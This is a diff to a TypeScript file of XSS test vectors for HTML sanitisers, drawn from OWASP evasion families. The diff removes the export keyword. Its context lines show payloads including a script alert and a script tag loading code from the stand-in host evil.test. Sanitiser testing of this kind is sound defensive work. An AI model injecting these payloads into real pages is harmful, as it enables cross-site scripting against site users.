@@ -2,7 +2,7 @@
  * Attacks on HTML sanitisers, from the families of the OWASP XSS Filter Evasion Cheat Sheet and from published mutation
  * attacks on browsers' parsers. When one works, it calls `alert`, leaves the page or fetches something.
  */
-export const xssVectors: Readonly<Record<string, readonly string[]>> = {
+const xssVectors: Readonly<Record<string, readonly string[]>> = {
   'scripts, plain and disguised': [
     '<script>alert(1)</script>',
     '<SCRIPT SRC=http://evil.test/xss.js></SCRIPT>',
